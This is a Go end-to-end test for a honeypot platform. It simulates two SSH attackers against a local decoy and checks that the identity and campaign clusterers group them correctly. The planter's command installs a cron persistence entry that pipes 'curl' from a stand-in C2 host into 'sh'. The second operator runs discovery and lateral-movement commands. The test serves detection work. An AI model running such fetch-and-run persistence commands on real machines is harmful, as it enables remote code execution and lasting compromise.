package e2e

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/testenv"
)

// runSSHWith is runSSH with extra OpenSSH options, such as restricted
// algorithm lists that change the client's HASSH.
func runSSHWith(t *testing.T, src, host string, port int, command string, opts ...string) sshResult {
	t.Helper()
	testenv.RequireTool(t, "ssh", "openssh-client")
	testenv.RequireTool(t, "sshpass", "sshpass")

	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	args := []string{"-p", "toor", "ssh", "-vvv",
		"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		"-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password,keyboard-interactive",
		"-o", "ConnectTimeout=20", "-o", "BatchMode=no"}
	for _, o := range opts {
		args = append(args, "-o", o)
	}
	args = append(args, "-b", src, "-p", fmt.Sprint(port), "-l", "root", host, command)
	cmd := exec.CommandContext(ctx, "sshpass", args...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	var exit *exec.ExitError
	if errors.As(err, &exit) && exit.ExitCode() != 255 && !strings.Contains(stderr.String(), "Permission denied") {
		err = nil
	}
	return sshResult{stdout: stdout.String(), debug: stderr.String(), err: err}
}

type campaignJSON struct {
	UUID          string `json:"uuid"`
	IdentityCount int    `json:"identity_count"`
}

type identityJSON struct {
	UUID       string  `json:"uuid"`
	CampaignID *string `json:"campaign_id"`
}

// TestCampaignHandoffOverSSH runs a handoff between two operators with
// different SSH clients and addresses: the first plants persistence and a
// C2 callback on a decky, the second later runs discovery and lateral
// movement there. The identity clusterer must keep them apart and the
// campaign clusterer must put both identities in one campaign.
func TestCampaignHandoffOverSSH(t *testing.T) {
	f := startFleet(t, "--deckies", "1", "--ports", "ssh=2222,http=8080")
	target := f.status(t)[0]
	port := target.port(t, "ssh")

	planter := runSSHWith(t, "127.0.0.41", target.IP, port,
		"echo '* * * * * curl -s http://c2.handoff.example/b | sh' | crontab -; curl -s http://c2.handoff.example/b | sh")
	if planter.err != nil {
		t.Fatalf("ssh from 127.0.0.41: %v\n%s", planter.err, tail(planter.debug, 3000))
	}
	waitFor(t, 30*time.Second, "the planter's attacker row", func() bool {
		a, ok := f.attackers(t)["127.0.0.41"]
		return ok && len(a.Commands) > 0
	})

	// A second client whose KEXINIT offers other lists, so its HASSH
	// differs from the first.
	operator := runSSHWith(t, "127.0.0.42", target.IP, port, "whoami; uname -a; ssh root@10.0.0.5",
		"KexAlgorithms=curve25519-sha256", "Ciphers=aes256-gcm@openssh.com", "MACs=hmac-sha2-512-etm@openssh.com")
	if operator.err != nil {
		t.Fatalf("ssh from 127.0.0.42: %v\n%s", operator.err, tail(operator.debug, 3000))
	}

	var first, second attackerJSON
	waitFor(t, 60*time.Second, "both attackers linked to identities", func() bool {
		all := f.attackers(t)
		first, second = all["127.0.0.41"], all["127.0.0.42"]
		return first.IdentityID != "" && second.IdentityID != ""
	})
	if first.Fingerprints["hassh"] == "" || first.Fingerprints["hassh"] == second.Fingerprints["hassh"] {
		t.Fatalf("HASSH values %q and %q, want two different ones", first.Fingerprints["hassh"], second.Fingerprints["hassh"])
	}
	if first.IdentityID == second.IdentityID {
		t.Fatalf("both clients resolved to identity %s, want two identities", first.IdentityID)
	}

	token := f.apiToken(t)
	var camp campaignJSON
	waitFor(t, 60*time.Second, "one campaign with both identities", func() bool {
		var list struct {
			Total int            `json:"total"`
			Data  []campaignJSON `json:"data"`
		}
		if code := f.apiGet(t, token, "/api/v1/campaigns", &list); code != 200 {
			t.Fatalf("GET /api/v1/campaigns: status %d", code)
		}
		for _, c := range list.Data {
			if c.IdentityCount == 2 {
				camp = c
				return true
			}
		}
		return false
	})

	var members struct {
		Total int            `json:"total"`
		Data  []identityJSON `json:"data"`
	}
	if code := f.apiGet(t, token, "/api/v1/campaigns/"+camp.UUID+"/identities", &members); code != 200 {
		t.Fatalf("GET campaign identities: status %d", code)
	}
	got := map[string]bool{}
	for _, id := range members.Data {
		got[id.UUID] = true
	}
	if members.Total != 2 || !got[first.IdentityID] || !got[second.IdentityID] {
		t.Errorf("campaign %s identities = %+v, want %s and %s", camp.UUID, members.Data, first.IdentityID, second.IdentityID)
	}

	var detail struct {
		UUID              string `json:"uuid"`
		IdentityCountLive int    `json:"identity_count_live"`
	}
	if code := f.apiGet(t, token, "/api/v1/campaigns/"+camp.UUID, &detail); code != 200 || detail.IdentityCountLive != 2 {
		t.Errorf("GET campaign detail: status %d, live count %d, want 200 and 2", code, detail.IdentityCountLive)
	}
	out := string(f.run(t, "campaigns", "--json"))
	if !strings.Contains(out, camp.UUID) {
		t.Errorf("decnet campaigns --json does not list %s:\n%s", camp.UUID, out)
	}
}
